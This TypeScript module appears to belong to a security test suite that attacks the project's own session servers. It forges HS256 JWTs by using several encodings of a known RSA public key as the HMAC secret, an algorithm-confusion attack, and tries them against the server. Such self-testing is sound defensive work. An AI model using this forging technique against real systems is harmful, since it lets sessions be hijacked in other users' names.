/** A public key is known to all. A server that lets the JWT choose its algorithm takes it as the secret of a MAC. @module */
import { createPublicKey } from 'node:crypto'
import { readFileSync } from 'node:fs'
import type { Attack } from '../attack.ts'
import { claimsOf, hs256, jwtOf, LARGE, RSA_PUBLIC_FILE, tryJwts } from '../requestors.ts'

export const attack: Attack = {
  name: 'jwt-public-key-as-secret',
  gains: 'sessions in the name of a requestor whose public key is known',
  cites: 'spec/session-server#6.4',
  on: 'own servers',
  run(own) {
    const pem = readFileSync(RSA_PUBLIC_FILE)
    const key = createPublicKey(pem)
    const secrets = {
      file: pem,
      'file without its last line break': Buffer.from(pem.toString().trimEnd()),
      SPKI: key.export({ format: 'der', type: 'spki' }),
      'PKCS 1': key.export({ format: 'der', type: 'pkcs1' }),
      PEM: Buffer.from(key.export({ format: 'pem', type: 'spki' })),
    }
    const forged = Object.entries(secrets).map(([form, secret]) => [
      `with a MAC by the public key (${form})`,
      jwtOf({ alg: 'HS256' }, claimsOf(LARGE), hs256(secret)),
    ])
    return tryJwts(own, Object.fromEntries(forged))
  },
}
